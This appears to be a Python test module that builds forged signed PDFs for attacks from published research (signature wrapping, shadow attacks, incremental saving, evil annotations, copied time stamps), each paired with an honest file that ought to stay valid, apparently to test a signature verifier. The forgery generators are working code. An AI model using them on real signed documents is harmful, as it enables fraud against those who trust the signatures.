"""Attacks on signed PDFs from the literature and from our own review; each brings a harmless twin that stays VALID.

Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): universal signature forgery, incremental saving, signature
wrapping. Mainka et al., "Shadow Attacks" (NDSS 2021): hide, replace, hide-and-replace. Rohlmann et al., "Breaking the
Specification: PDF Certification" (S&P 2021): evil annotation, sneaky signature.

A generator takes the stage and yields (name, forged file); its twin does the same kind of thing honestly.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

WHITE_PAGE = b"1 1 1 rg 0 0 2000 2000 re f"


@dataclass(frozen=True)
class Stage:
    """What an attacker has: signed files, and honest programs that sign whatever they are handed."""

    prepared: bytes
    once: bytes
    """Certified by a person."""
    twice: bytes
    archived: bytes
    sign_person: Callable[..., bytes]
    """(pdf, field, shown=pdf) -> signed by a person who was shown `shown`."""
    sign_bank: Callable[..., bytes]
    """(pdf, field) -> sealed by the bank."""
    stamp: Callable[[bytes], bytes]
    """An archive time stamp, which anybody gets of a public authority."""


Forgeries = Iterator[tuple[str, bytes]]


@dataclass(frozen=True)
class Attack:
    name: str
    forge: Callable[[Stage], Forgeries]
    twin: Callable[[Stage], bytes]


# --- tools -------------------------------------------------------------------------------------------------


def update(pdf: bytes, change: Callable[[Any], None]) -> bytes:
    """An incremental update as a PDF editor would save it."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def raw_update(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    xref: bool = True,
    eof: bool = True,
    root: int | None = None,
    unlisted: bytes = b"",
) -> bytes:
    """An incremental update by hand: also such as no library writes. `unlisted` stands there and is in no table."""
    reader = PdfFileReader(BytesIO(pdf))
    root = root or reader.root_ref.idnum
    size = max([int(reader.trailer["/Size"]) - 1, *objects]) + 1
    output, offsets = pdf if pdf.endswith(b"\n") else pdf + b"\n", {}
    for number, body in objects.items():
        offsets[number] = len(output)
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    output += unlisted
    start = len(output)
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    if xref:
        output += b"xref\n0 1\n0000000000 65535 f \n"
        for number, offset in sorted(offsets.items()):
            output += b"%d 1\n%010d 00000 n \n" % (number, offset)
        output += b"trailer\n<</Size %d /Root %d 0 R /Prev %d>>\nstartxref\n%d\n" % (size, root, previous, start)
    return output + (b"%%EOF\n" if eof else b"")


def first_page(writer: Any) -> Any:
    node = writer.root["/Pages"]
    while "/Kids" in node:
        node = node["/Kids"][0]
    return node


def page_number(pdf: bytes) -> int:
    return first_page(PdfFileReader(BytesIO(pdf))).container_ref.idnum


def replace_content(writer: Any) -> None:
    page = first_page(writer)
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=WHITE_PAGE))
    writer.update_container(page)


def signature_number(pdf: bytes) -> int:
    reader = PdfFileReader(BytesIO(pdf))
    return reader.embedded_signatures[-1].sig_object.container_ref.idnum


def gap(pdf: bytes) -> tuple[int, int]:
    """Where the last /Contents stands, with its brackets."""
    numbers = re.search(rb"\[0 (\d+) (\d+) (\d+)\]", pdf[pdf.rindex(b"/ByteRange") :])
    return int(numbers[1]), int(numbers[2])


# --- universal signature forgery -----------------------------------------------------------------------------


def universal_forgery(stage: Stage) -> Forgeries:
    pdf, number = stage.once, signature_number(stage.once)
    start, end = gap(pdf)
    contents = pdf[start:end]
    changed = update(pdf, replace_content)
    size = len(changed) + 100_000
    good_range = b"/ByteRange [0 %d %d %d]" % (start, end, len(pdf) - end)
    variants = {
        "no byte range": b"/Contents " + contents,
        "byte range null": b"/ByteRange null /Contents " + contents,
        "byte range empty": b"/ByteRange [] /Contents " + contents,
        "byte range of zeros": b"/ByteRange [0 0 0 0] /Contents " + contents,
        "byte range negative": b"/ByteRange [0 -1 -1 -1] /Contents " + contents,
        "byte range beyond": b"/ByteRange [0 %d %d %d] /Contents " % (start, end, size) + contents,
        "byte range of strings": b"/ByteRange [(0) (1) (2) (3)] /Contents " + contents,
        "byte range of six": b"/ByteRange [0 %d %d %d 0 0] /Contents " % (start, end, len(pdf) - end) + contents,
        "no contents": good_range,
        "contents null": good_range + b" /Contents null",
        "contents empty": good_range + b" /Contents <>",
        "contents zero": good_range + b" /Contents <00>",
        "contents zeros": good_range + b" /Contents <" + b"00" * 64 + b">",
        "same contents": good_range + b" /Contents " + contents,
    }
    for name, members in variants.items():
        body = b"<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached " + members + b">>"
        yield name, raw_update(changed, {number: body})
    for name, kind in {"other filter": b"/Adobe.Nothing", "pkcs1": b"/adbe.x509.rsa_sha1"}.items():
        body = b"<</Type /Sig /Filter /X /SubFilter " + kind + b" " + good_range + b" /Contents " + contents + b">>"
        yield name, raw_update(changed, {number: body})


# --- incremental saving --------------------------------------------------------------------------------------


def incremental_saving(stage: Stage) -> Forgeries:
    for name, pdf in (("once", stage.once), ("twice", stage.twice), ("archived", stage.archived)):
        page = page_number(pdf)
        body = b"<</Type /Page /Parent 1 0 R /MediaBox [0 0 595 842] /Contents %d 0 R>>"
        size = int(PdfFileReader(BytesIO(pdf)).trailer["/Size"])
        stream = b"<</Length %d>>\nstream\n%s\nendstream" % (len(WHITE_PAGE), WHITE_PAGE)
        objects = {page: body % size, size: stream}
        yield f"{name}, as an editor saves", update(pdf, replace_content)
        yield f"{name}, by hand", raw_update(pdf, objects)
        yield f"{name}, without xref", raw_update(pdf, objects, xref=False)
        yield f"{name}, without end", raw_update(pdf, objects, eof=False)
        yield f"{name}, without both", raw_update(pdf, objects, xref=False, eof=False)
        again = raw_update(pdf, {**objects, size + 1: b"<</Type /Sig /Contents %s>>" % pdf[slice(*gap(pdf))]})
        yield f"{name}, with a copy of the signature", again
        yield f"{name}, and a comment after", update(pdf, replace_content) + b"%%EOF\n"
        catalog = {size: b"<</Type /Catalog /Pages %d 0 R>>" % (size + 1), size + 1: b"<</Type /Pages /Kids []>>"}
        yield f"{name}, new catalog", raw_update(pdf, catalog, root=size)
        yield f"{name}, stamped by anybody", stage.stamp(update(pdf, replace_content))


# --- signature wrapping --------------------------------------------------------------------------------------


def signature_wrapping(stage: Stage) -> Forgeries:
    """The second half of what was signed moves, and the byte range with it; between stands something else."""
    pdf = stage.once
    start, end = gap(pdf)
    first, contents, second = pdf[:start], pdf[start:end], pdf[end:]
    payload = b"\n%d 0 obj\n<</Type /Page /Parent 1 0 R>>\nendobj\n" % page_number(pdf)
    trimmed = contents.rstrip(b">").rstrip(b"0")
    trimmed += b"0" * (len(trimmed) % 2 == 0) + b">"
    hidden = trimmed + payload.ljust(len(contents) - len(trimmed))
    yield "inside the padding", first + hidden + second
    yield "a comment inside the padding", first + trimmed + b"%" + b" " * (len(contents) - len(trimmed) - 1) + second
    yield "behind the contents", first + contents + payload + second
    old = re.search(rb"/ByteRange \[[^\]]*\] *", second)[0]
    new = (b"/ByteRange [0 %d %d %d]" % (start, end + len(payload), len(second))).ljust(len(old))
    yield "with the byte range moved", first + contents + payload + second.replace(old, new)
    yield "two hexadecimal strings", first + trimmed + b"<" + b"0" * (len(contents) - len(trimmed) - 2) + b">" + second
    yield "upper and lower case", first + contents[:40].swapcase() + contents[40:] + second
    yield "white space in the contents", first + contents[:3] + b" " + contents[3:-2] + b">" + second


# --- shadow attacks ------------------------------------------------------------------------------------------


def _with_shadow(stage: Stage) -> tuple[bytes, dict[str, int]]:
    """A prepared file whose page paints a form over its text, and which holds a second body for that page."""
    numbers: dict[str, int] = {}

    def plant(writer: Any) -> None:
        page = first_page(writer)
        cover = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 100, 100))),
            },
            stream_data=b"1 1 1 rg 0 0 100 100 re f",
        )
        reference = writer.add_object(cover)
        extra = writer.add_object(generic.StreamObject(stream_data=b"q /Cover Do Q"))
        contents = page.raw_get("/Contents")
        page[pdf_name("/Contents")] = generic.ArrayObject([contents, extra])
        resources = generic.DictionaryObject(page["/Resources"])
        resources[pdf_name("/XObject")] = generic.DictionaryObject({pdf_name("/Cover"): reference})
        page[pdf_name("/Resources")] = resources
        writer.update_container(page)
        numbers.update(cover=reference.idnum)

    planted = update(stage.prepared, plant)
    page = b"%d 0 obj\n<</Type /Page /Parent 1 0 R /MediaBox [0 0 595 842]>>\nendobj\n" % page_number(planted)
    numbers["hidden"] = len(planted)
    return raw_update(planted, {}, unlisted=page), numbers


def _table_alone(pdf: bytes, lines: bytes) -> bytes:
    """An update that holds a cross-reference table and nothing else."""
    head, trailer = raw_update(pdf, {}).rsplit(b"trailer", 1)
    return head + lines + b"trailer" + trailer


def signed_shadow(stage: Stage) -> bytes:
    """The planted file, signed, and never switched: no pretty thing, but nothing was changed."""
    planted, _ = _with_shadow(stage)
    return stage.sign_person(planted, "enterprise-legal-representative")


def shadow_hide(stage: Stage) -> Forgeries:
    planted, numbers = _with_shadow(stage)
    signed = stage.sign_person(planted, "enterprise-legal-representative")
    empty = b"<</Type /XObject /Subtype /Form /BBox [0 0 100 100] /Length 0>>\nstream\n\nendstream"
    for name, objects in {"emptied": {numbers["cover"]: empty}, "nulled": {numbers["cover"]: b"null"}}.items():
        yield name, raw_update(signed, objects)
        yield f"{name} and sealed", stage.sign_bank(raw_update(signed, objects), "bank-seal")
        yield f"{name} and stamped", stage.stamp(raw_update(signed, objects))
    freed = _table_alone(signed, b"%d 1\n0000000000 00001 f \n" % numbers["cover"])
    yield "freed", freed


def shadow_replace(stage: Stage) -> Forgeries:
    """Fonts and defaults of the form, which some viewers let anybody change, change what is shown."""

    def other_fonts(writer: Any) -> None:
        resources = first_page(writer)["/Resources"]
        fonts = resources["/Font"]
        font = fonts[next(iter(fonts))]
        font[pdf_name("/Encoding")] = pdf_name("/WinAnsiEncoding")
        writer.update_container(font)

    def appearances_anew(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
        writer.update_container(form)

    def default_resources(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name("/DR")] = generic.DictionaryObject()
        form[pdf_name("/DA")] = generic.pdf_string("/Evil 12 Tf")
        writer.update_container(form)

    for change in (other_fonts, appearances_anew, default_resources):
        changed = update(stage.once, change)
        yield change.__name__, changed
        yield f"{change.__name__}, sealed", stage.sign_bank(changed, "bank-seal")


def shadow_hide_and_replace(stage: Stage) -> Forgeries:
    """A cross-reference table alone brings up what was hidden in the signed file."""
    planted, numbers = _with_shadow(stage)
    signed = stage.sign_person(planted, "enterprise-legal-representative")
    switched = _table_alone(signed, b"%d 1\n%010d 00000 n \n" % (page_number(signed), numbers["hidden"]))
    yield "switched", switched
    yield "switched and stamped", stage.stamp(switched)
    parent = PdfFileReader(BytesIO(signed)).root.raw_get("/Pages").idnum
    yield "other page tree", raw_update(signed, {parent: b"<</Type /Pages /Count 0 /Kids []>>"})


# --- certification -------------------------------------------------------------------------------------------


def _annotation(writer: Any, subtype: str) -> None:
    page = first_page(writer)
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 500))),
            pdf_name("/Contents"): generic.pdf_string("已付清"),
        }
    )
    annotations = generic.ArrayObject(page["/Annots"] if "/Annots" in page else ())  # noqa: SIM401 - no dict
    annotations.append(writer.add_object(annotation))
    page[pdf_name("/Annots")] = annotations
    writer.update_container(page)


def evil_annotation(stage: Stage) -> Forgeries:
    for subtype in ("/FreeText", "/Stamp", "/Redact", "/Square", "/Highlight", "/Ink", "/Widget", "/Popup"):
        changed = update(stage.once, lambda writer, kind=subtype: _annotation(writer, kind))
        yield subtype, changed
        yield f"{subtype}, sealed", stage.sign_bank(changed, "bank-seal")
        yield f"{subtype}, stamped", stage.stamp(changed)


def sneaky_signature(stage: Stage) -> Forgeries:
    """A genuine signature in a field that was not there: it may show anything, anywhere."""

    def visible(writer: Any) -> None:
        append_signature_field(writer, SigFieldSpec("sneaky", box=(0, 0, 500, 500)))

    added = update(stage.once, visible)
    yield "an empty field", added
    yield "an empty field, stamped", stage.stamp(added)
    yield "signed by the bank", stage.sign_bank(added, "sneaky")
    yield "signed by a person", stage.sign_person(added, "sneaky")

    def moved(writer: Any) -> None:
        for field in writer.root["/AcroForm"]["/Fields"]:
            widget = field.get_object()
            if widget["/T"] == "bank-seal":
                widget[pdf_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 700)))
                writer.update_container(widget)

    yield "the bank's field made larger", stage.sign_bank(update(stage.once, moved), "bank-seal")


def _paint(field_name: str) -> Callable[[Any], None]:
    def paint(writer: Any) -> None:
        for field in writer.root["/AcroForm"]["/Fields"]:
            widget = field.get_object()
            if widget["/T"] == field_name:
                appearance = generic.StreamObject(
                    {
                        pdf_name("/Type"): pdf_name("/XObject"),
                        pdf_name("/Subtype"): pdf_name("/Form"),
                        pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 100, 100))),
                    },
                    stream_data=b"1 0 0 rg 0 0 100 100 re f",
                )
                widget[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(appearance)})
                writer.update_container(widget)

    return paint


def painted_seal(stage: Stage) -> Forgeries:
    """A seal is painted into a field that nobody signed; a public time stamp covers the file again."""
    painted = update(stage.once, _paint("bank-seal"))
    yield "painted", painted
    yield "painted and stamped", stage.stamp(painted)
    yield "another seal for a signature that stands", stage.stamp(update(stage.twice, _paint("bank-seal")))


def laundered(stage: Stage) -> Forgeries:
    """Whoever assembles the file changes it in the moment of signing: the person was shown another one."""
    changed = update(stage.prepared, replace_content)
    field = "enterprise-legal-representative"
    yield "the first signature", stage.sign_person(changed, field, shown=stage.prepared)
    annotated = update(stage.prepared, lambda writer: _annotation(writer, "/Square"))
    yield "the first signature, with an annotation", stage.sign_person(annotated, field, shown=stage.prepared)
    yield "sealed", stage.sign_bank(stage.sign_person(changed, field, shown=stage.prepared), "bank-seal")
    painted = update(stage.prepared, _paint("bank-seal"))
    yield "with a painted seal", stage.sign_person(painted, field, shown=stage.prepared)
    parallel = update(stage.once, replace_content)
    yield "the second of two in parallel", stage.sign_person(parallel, "bank-seal", shown=stage.prepared)


# --- time stamps ---------------------------------------------------------------------------------------------


def _token(pdf: bytes) -> tuple[bytes, int]:
    """The signature time stamp of the last signature, and its offset in the CMS."""
    from asn1crypto import cms

    contents = bytes.fromhex(pdf[slice(*gap(pdf))][1:-1].decode())
    signer = cms.ContentInfo.load(contents)["content"]["signer_infos"][0]
    token = signer["unsigned_attrs"][0]["values"][0].dump()
    return token, contents.index(token)


def copied_timestamp(stage: Stage) -> Forgeries:
    """The time stamp of one signature under another."""
    other = stage.sign_person(stage.prepared, "enterprise-legal-representative")
    theirs, ours = _token(other)[0], _token(stage.once)
    start, _ = gap(stage.once)
    if len(theirs) == len(ours[0]):
        position = start + 1 + 2 * ours[1]
        text = theirs.hex().upper().encode()
        yield "of another signature", stage.once[:position] + text + stage.once[position + len(text) :]
    document = stage.archived[slice(*gap(stage.archived))]
    from_document = stage.stamp(stage.once)
    here = gap(from_document)
    yield "a document's time stamp on another", from_document[: here[0]] + document + from_document[here[1] :]
    yield (
        "a signature's time stamp as a document's",
        from_document[: here[0]]
        + (b"<" + _token(stage.once)[0].hex().upper().encode()).ljust(len(document) - 1, b"0")
        + b">"
        + from_document[here[1] :],
    )


ATTACKS = (
    Attack("universal signature forgery", universal_forgery, lambda stage: stage.once),
    Attack("incremental saving", incremental_saving, lambda stage: stage.stamp(stage.once)),
    Attack("signature wrapping", signature_wrapping, lambda stage: stage.twice),
    Attack("shadow: hide", shadow_hide, signed_shadow),
    Attack("shadow: replace", shadow_replace, lambda stage: stage.sign_bank(stage.once, "bank-seal")),
    Attack("shadow: hide and replace", shadow_hide_and_replace, lambda stage: stage.stamp(signed_shadow(stage))),
    Attack("evil annotation", evil_annotation, lambda stage: stage.sign_bank(stage.once, "bank-seal")),
    Attack("sneaky signature", sneaky_signature, lambda stage: stage.sign_person(stage.once, "bank-seal")),
    Attack("painted seal", painted_seal, lambda stage: stage.stamp(stage.twice)),
    Attack(
        "laundered revision",
        laundered,
        lambda stage: stage.sign_person(stage.once, "bank-seal", shown=stage.prepared),
    ),
    Attack("copied time stamp", copied_timestamp, lambda stage: stage.archived),
)
